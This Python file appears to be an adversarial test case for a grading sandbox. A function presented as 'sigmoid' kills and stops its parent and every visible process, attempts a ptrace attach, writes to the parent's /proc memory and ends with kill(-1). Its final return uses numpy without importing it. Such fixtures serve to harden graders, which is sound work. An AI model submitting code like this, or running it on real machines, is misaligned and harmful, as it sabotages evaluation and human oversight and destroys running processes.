"""Attacks the grader's processes: SIGKILL and SIGSTOP to its parent and every process it can see, ptrace, writing /proc/<pid>/mem, then kill(-1).

attack: the grader must survive, finish within a bounded time and write a well-formed result
targets: sigmoid
"""
import ctypes as _ctypes
import os as _os
import signal as _signal


def sigmoid(z):
    me, parent = _os.getpid(), _os.getppid()
    victims = sorted({int(p) for p in _os.listdir("/proc") if p.isdigit()} - {me})
    report = []
    for pid in [parent] + victims:
        for sig in (_signal.SIGSTOP, _signal.SIGKILL):
            try:
                _os.kill(pid, sig)
                report.append(f"{sig.name} {pid} ok")
            except OSError as exc:
                report.append(f"{sig.name} {pid} {type(exc).__name__}")
    try:
        libc = _ctypes.CDLL(None, use_errno=True)
        report.append(f"ptrace attach {parent}: {libc.ptrace(16, parent, 0, 0)} errno {_ctypes.get_errno()}")
    except OSError as exc:
        report.append(f"ptrace: {exc}")
    try:
        with open(f"/proc/{parent}/mem", "wb") as f:
            f.write(b"\0")
        report.append("mem written")
    except OSError as exc:
        report.append(f"mem {type(exc).__name__}")
    print("ATTACK", report[:40])
    _os.kill(-1, _signal.SIGKILL)
    return np.zeros(np.shape(z))
